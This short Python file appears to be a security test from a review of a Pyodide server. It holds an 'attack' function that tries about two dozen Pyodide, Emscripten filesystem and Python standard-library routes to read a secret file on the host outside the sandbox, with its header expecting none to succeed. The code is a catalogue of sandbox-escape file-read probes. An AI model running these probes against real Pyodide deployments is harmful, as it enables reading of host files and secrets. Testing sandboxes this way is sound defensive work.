# From: a review of a Pyodide server (2026): `_api.loadBinaryFile` read any file of the host, past the directory it was shown.
# Ends: []
from gains import gains


async def attack(probe):
    import pyodide_js

    secret = probe["secret"]
    found = []
    for name in ("loadBinaryFile", "resolvePath", "loadDynlib", "loadDynlibsFromPackage", "initializeFileSystem", "fetchPackage", "packageManager", "lockfile_info", "stdin", "runtimeEnv", "abortSignalAny"):
        for holder in (pyodide_js._api, pyodide_js):
            try:
                prize = getattr(holder, name)
                prize = prize(secret)
                found.append(f"{name}: {await prize}")
            except Exception:
                pass
    ways = [lambda name=name: getattr(pyodide_js._module, name)(secret) for name in ("readAsync", "readBinary", "locateFile", "loadDynamicLibrary", "FS_createLazyFile", "FS_createPreloadedFile", "instantiateWasm", "getDylinkMetadata")]
    ways += [
        lambda: pyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, {"root": "/"}, "/mnt"),
        lambda: pyodide_js.FS.createLazyFile("/tmp", "lazy", f"file://{secret}", True, False) and open("/tmp/lazy").read(),
        lambda: pyodide_js.mountNativeFS("/tmp/native", secret),
        lambda: pyodide_js.unpackArchive(secret, "zip"),
        lambda: open(f"file://{secret}").read(),
        lambda: __import__("urllib.request").request.urlopen(f"file://{secret}").read(),
        lambda: __import__("linecache").getlines(secret) or None,
        lambda: __import__("importlib.util").util.spec_from_file_location("secret", secret).loader.get_data(secret),
    ]
    return found + gains(ways)
